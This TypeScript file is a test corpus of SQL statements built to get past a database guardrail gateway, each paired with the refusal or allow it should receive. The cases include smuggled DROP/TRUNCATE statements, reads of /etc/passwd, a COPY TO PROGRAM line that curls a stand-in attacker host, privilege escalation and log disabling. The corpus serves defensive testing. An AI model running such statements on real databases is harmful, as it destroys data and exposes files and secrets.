/**
 * The bypass corpus: statements that try to get around a rule, and the verdict each must get.
 * Cases only ever get added. `expect` is a rule name (the statement must be refused by it) or
 * "allow" (Sluice must let it through; the database may still refuse it).
 */
export type BypassCase = {
  class: string;
  sql: string;
  expect: string;
  /** Statements run first in the same session (for state such as search_path or PREPARE). */
  setup?: string[];
  /** The read-only connection instead of the ordinary one. */
  isReadOnly?: boolean;
};

export const GUARDRAIL_CASES: BypassCase[] = [
  // case, comment and whitespace games
  { class: "case", sql: "DrOp TaBlE orders", expect: "no-drop-truncate" },
  { class: "comment", sql: "/* harmless */ DROP/**/TABLE orders", expect: "no-drop-truncate" },
  { class: "comment", sql: "-- just a comment\nTRUNCATE orders", expect: "no-drop-truncate" },
  { class: "whitespace", sql: "DELETE\tFROM\n\torders", expect: "no-unscoped-delete" },
  { class: "comment", sql: "SELECT 1 -- ; DROP TABLE orders", expect: "allow" },
  { class: "comment", sql: "SELECT 1 /* ; DROP TABLE orders */", expect: "allow" },
  // strings, escape strings and dollar quotes that hide (or seem to hide) a second statement
  { class: "string", sql: "SELECT 'a'; DROP TABLE orders; --'", expect: "no-drop-truncate" },
  { class: "escape-string", sql: "SELECT E'\\'; DROP TABLE orders; --'", expect: "allow" },
  { class: "escape-string", sql: "SELECT E'\\\\'; DROP TABLE orders; --'", expect: "no-drop-truncate" },
  { class: "dollar-quote", sql: "SELECT $$; DROP TABLE orders; $$", expect: "allow" },
  { class: "dollar-quote", sql: "SELECT $a$ $$ $a$; DROP TABLE orders", expect: "no-drop-truncate" },
  { class: "multi-statement", sql: "SELECT 1;DROP TABLE orders", expect: "no-drop-truncate" },
  { class: "standard-strings", sql: "SELECT 'it''s'; TRUNCATE orders", expect: "no-drop-truncate" },
  // writes inside reads
  {
    class: "writable-cte",
    sql: "WITH d AS (DELETE FROM orders RETURNING *) SELECT count(*) FROM d",
    expect: "no-unscoped-delete",
  },
  {
    class: "writable-cte",
    sql: "SELECT * FROM (WITH x AS (UPDATE orders SET status = 'x' RETURNING 1) SELECT * FROM x) s",
    expect: "no-unscoped-update",
  },
  { class: "explain-analyze", sql: "EXPLAIN ANALYZE DELETE FROM orders", expect: "no-unscoped-delete" },
  { class: "prepare", sql: "PREPARE wipe AS DELETE FROM orders", expect: "no-unscoped-delete" },
  {
    class: "copy-query",
    sql: "COPY (DELETE FROM orders RETURNING *) TO STDOUT",
    expect: "no-unscoped-delete",
  },
  {
    class: "create-table-as",
    sql: "CREATE TABLE stolen AS WITH d AS (DELETE FROM orders RETURNING *) SELECT * FROM d",
    expect: "no-unscoped-delete",
  },
  {
    class: "merge",
    // The source is the target itself: ON matches every row to itself.
    sql: "MERGE INTO orders o USING orders s ON o.id = s.id WHEN MATCHED THEN DELETE",
    expect: "no-unscoped-delete",
  },
  // statements that name no table
  { class: "no-table", sql: "SELECT pg_read_file('/etc/passwd')", expect: "no-file-functions" },
  {
    class: "no-table",
    sql: "SELECT * FROM pg_catalog.pg_read_file('/etc/passwd') f",
    expect: "no-file-functions",
  },
  { class: "no-table", sql: "SELECT lo_import('/etc/passwd')", expect: "no-file-functions" },
  { class: "no-table", sql: "SELECT 1 AS ok", expect: "allow" },
  // file, program and network functions
  { class: "file", sql: "SELECT lo_get(1)", expect: "sluice:server-files" },
  {
    class: "program",
    sql: "COPY orders TO PROGRAM 'curl http://evil.example'",
    expect: "sluice:server-files",
  },
  { class: "file", sql: "COPY orders FROM '/tmp/orders.csv'", expect: "sluice:server-files" },
  { class: "file", sql: "SELECT pg_ls_dir('.')", expect: "sluice:server-files" },
  {
    class: "hidden-sql",
    sql: "SELECT query_to_xml('DROP TABLE orders', true, false, '')",
    expect: "sluice:hidden-sql",
  },
  {
    class: "network",
    sql: "SELECT dblink_exec('dbname=shop', 'DROP TABLE orders')",
    expect: "sluice:hidden-sql",
  },
  {
    class: "hidden-sql",
    sql: "DO $$ BEGIN EXECUTE 'DROP TABLE ' || 'orders'; END $$",
    expect: "sluice:hidden-sql",
  },
  {
    class: "hidden-sql",
    sql: "CREATE FUNCTION f() RETURNS void AS $$ DROP TABLE orders $$ LANGUAGE sql",
    expect: "sluice:hidden-sql",
  },
  {
    class: "hidden-sql",
    sql: "SELECT table_to_xml('secrets', true, false, '')",
    expect: "sluice:hidden-sql",
  },
  // identifier quoting, Unicode escapes and schema qualification
  { class: "quoting", sql: 'DROP TABLE "orders"', expect: "no-drop-truncate" },
  { class: "quoting", sql: 'DELETE FROM public."orders"', expect: "no-unscoped-delete" },
  { class: "unicode-escape", sql: 'SELECT * FROM U&"\\0073ecrets"', expect: "no-secrets" },
  { class: "quoting", sql: 'SELECT * FROM "public".secrets', expect: "no-secrets" },
  { class: "case-folding", sql: "SELECT * FROM PUBLIC.SECRETS", expect: "no-secrets" },
  { class: "quoting", sql: 'SELECT * FROM "SECRETS"', expect: "allow" },
  { class: "schema", sql: "SELECT * FROM hr.secrets", expect: "allow" },
  { class: "subquery", sql: "SELECT (SELECT count(*) FROM secrets) AS n", expect: "no-secrets" },
  {
    class: "cte-shadow",
    sql: "SELECT * FROM (WITH secrets AS (SELECT 1) SELECT * FROM secrets) s, secrets",
    expect: "no-secrets",
  },
  // search_path shadowing. Names resolve as the server resolves them (the upstream reports its
  // search_path and the catalog is read when a refusal depends on it): with hr first, `secrets` is
  // hr.secrets, which no rule names. This case expected a refusal while the gateway still judged
  // every schema the path had held.
  {
    class: "search-path",
    setup: ["SET search_path = hr, public"],
    sql: "SELECT * FROM secrets",
    expect: "allow",
  },
  {
    class: "search-path",
    setup: ["SET search_path = hr, public"],
    sql: "SELECT * FROM public.secrets",
    expect: "no-secrets",
  },
  {
    class: "search-path",
    setup: ["SET search_path = hr, public", "SELECT set_config('search_path', 'public', false)"],
    sql: "SELECT * FROM secrets",
    expect: "no-secrets",
  },
  {
    // An earlier statement of the same message changes what the later one finds: never resolved.
    class: "search-path",
    setup: ["SET search_path = hr, public"],
    sql: "ALTER TABLE IF EXISTS hr.not_there RENAME TO gone; SELECT * FROM secrets",
    expect: "no-secrets",
  },
  {
    class: "search-path",
    setup: ["SET search_path = hr, public"],
    sql: "SELECT public.path_to_public(); SELECT * FROM secrets",
    expect: "no-secrets",
  },
  {
    // The pg_settings view takes UPDATE as SET: any setting, role included.
    class: "privilege",
    sql: "UPDATE pg_settings SET setting = 'public' WHERE name = 'search_path'",
    expect: "sluice:privilege-change",
  },
  {
    // Inside a function: the upstream's report of search_path, not the statement, shows the change.
    class: "search-path",
    setup: ["SET search_path = hr, public", "SELECT public.path_to_public()"],
    sql: "SELECT * FROM secrets",
    expect: "no-secrets",
  },
  {
    class: "search-path",
    setup: ["SET search_path = hr, public"],
    sql: "SET search_path = public; SELECT * FROM secrets",
    expect: "no-secrets",
  },
  {
    class: "search-path",
    setup: ["SET search_path = hr, public"],
    sql: "BEGIN; SET LOCAL search_path = public; SELECT * FROM secrets; COMMIT",
    expect: "no-secrets",
  },
  {
    class: "search-path",
    setup: ["SET search_path = hr, public", "BEGIN", "SET LOCAL search_path = public"],
    sql: "SELECT * FROM secrets",
    expect: "no-secrets",
  },
  {
    class: "search-path",
    setup: ['SET search_path = "$user", public'],
    sql: "SELECT * FROM secrets",
    expect: "no-secrets",
  },
  {
    // The session's own temporary table shadows public.secrets; which pg_temp_N is its own cannot
    // be seen from outside, so public.secrets stays a candidate (a refusal to spare, never an allow to regret).
    class: "search-path",
    setup: ["CREATE TEMP TABLE secrets (id int)"],
    sql: "SELECT * FROM secrets",
    expect: "no-secrets",
  },
  {
    class: "search-path",
    setup: ["SELECT set_config('search_path', 'hr', false)"],
    sql: "SELECT 1",
    expect: "allow",
  },
  // read-only disarming (on a read-only connection)
  {
    class: "read-only",
    isReadOnly: true,
    sql: "SET default_transaction_read_only = off",
    expect: "sluice:read-only",
  },
  {
    class: "read-only",
    isReadOnly: true,
    sql: "SET transaction_read_only TO off",
    expect: "sluice:read-only",
  },
  { class: "read-only", isReadOnly: true, sql: "BEGIN READ WRITE", expect: "sluice:read-only" },
  { class: "read-only", isReadOnly: true, sql: "START TRANSACTION READ WRITE", expect: "sluice:read-only" },
  {
    class: "read-only",
    isReadOnly: true,
    sql: "SET SESSION CHARACTERISTICS AS TRANSACTION READ WRITE",
    expect: "sluice:read-only",
  },
  {
    class: "read-only",
    isReadOnly: true,
    sql: "SELECT set_config('default_transaction_read_only', 'off', false)",
    expect: "sluice:read-only",
  },
  { class: "read-only", isReadOnly: true, sql: "RESET ALL", expect: "sluice:read-only" },
  {
    class: "read-only",
    isReadOnly: true,
    sql: "INSERT INTO orders (status) VALUES ('x')",
    expect: "sluice:read-only",
  },
  {
    class: "read-only",
    isReadOnly: true,
    sql: "WITH x AS (INSERT INTO orders (status) VALUES ('x') RETURNING 1) SELECT * FROM x",
    expect: "sluice:read-only",
  },
  {
    class: "read-only",
    isReadOnly: true,
    sql: "SELECT * INTO copied_orders FROM orders",
    expect: "sluice:read-only",
  },
  { class: "read-only", isReadOnly: true, sql: "SELECT count(*) FROM orders", expect: "allow" },
  { class: "read-only", isReadOnly: true, sql: "BEGIN READ ONLY", expect: "allow" },
  // privilege changes
  { class: "privilege", sql: "SET ROLE postgres", expect: "sluice:privilege-change" },
  { class: "privilege", sql: "SET SESSION AUTHORIZATION postgres", expect: "sluice:privilege-change" },
  {
    class: "privilege",
    sql: "SELECT set_config('role', 'postgres', false)",
    expect: "sluice:privilege-change",
  },
  {
    class: "privilege",
    sql: "SELECT set_config(current_setting('application_name'), 'x', false)",
    expect: "sluice:privilege-change",
  },
  { class: "privilege", sql: "GRANT ALL ON orders TO PUBLIC", expect: "sluice:privilege-change" },
  { class: "privilege", sql: "ALTER ROLE CURRENT_USER SUPERUSER", expect: "sluice:privilege-change" },
  { class: "privilege", sql: "ALTER SYSTEM SET log_statement = 'none'", expect: "sluice:privilege-change" },
  // what the engine does not model, or cannot read
  { class: "unmodeled", sql: "CREATE PUBLICATION p FOR ALL TABLES", expect: "sluice:unmodeled" },
  { class: "parse-error", sql: "SELEC * FROM orders", expect: "sluice:parse-error" },
  // reviews (refused until approvals exist)
  { class: "review", sql: "SELECT salary FROM employees", expect: "salary-reads" },
  { class: "review", sql: "SELECT * FROM employees", expect: "salary-reads" },
  { class: "review", sql: "SELECT e FROM employees e", expect: "salary-reads" },
  { class: "review", sql: "SELECT row_to_json(e) FROM employees e", expect: "salary-reads" },
  { class: "review", sql: "SELECT first_name FROM employees", expect: "allow" },
  // prepared statements at the SQL level
  {
    class: "prepared",
    setup: ["PREPARE q AS SELECT count(*) FROM orders"],
    sql: "EXECUTE q",
    expect: "allow",
  },
  { class: "prepared", sql: "EXECUTE never_prepared", expect: "sluice:unknown-prepared" },
  // ordinary work goes through
  { class: "ordinary", sql: "SELECT count(*) FROM orders", expect: "allow" },
  { class: "ordinary", sql: "DELETE FROM orders WHERE id = -1", expect: "allow" },
  { class: "ordinary", sql: "UPDATE orders SET status = status WHERE id = -1", expect: "allow" },
  // catalog statistics and other sessions' query text (oracles around masking)
  {
    class: "catalog-values",
    sql: "SELECT most_common_vals FROM pg_stats WHERE attname = 'ssn'",
    expect: "sluice:catalog-values",
  },
  { class: "catalog-values", sql: "select * from PG_CATALOG.PG_STATS", expect: "sluice:catalog-values" },
  {
    class: "catalog-values",
    sql: 'SELECT * FROM "pg_catalog"."pg_statistic"',
    expect: "sluice:catalog-values",
  },
  { class: "catalog-values", sql: "SELECT query FROM pg_stat_activity", expect: "sluice:catalog-values" },
  {
    class: "catalog-values",
    sql: "WITH a AS (SELECT * FROM pg_stat_activity) SELECT count(*) FROM a",
    expect: "sluice:catalog-values",
  },
  {
    class: "catalog-values",
    sql: "SELECT * FROM pg_stat_get_activity(NULL)",
    expect: "sluice:catalog-values",
  },
  { class: "catalog-values", sql: "SELECT relname FROM pg_class LIMIT 1", expect: "allow" },
];
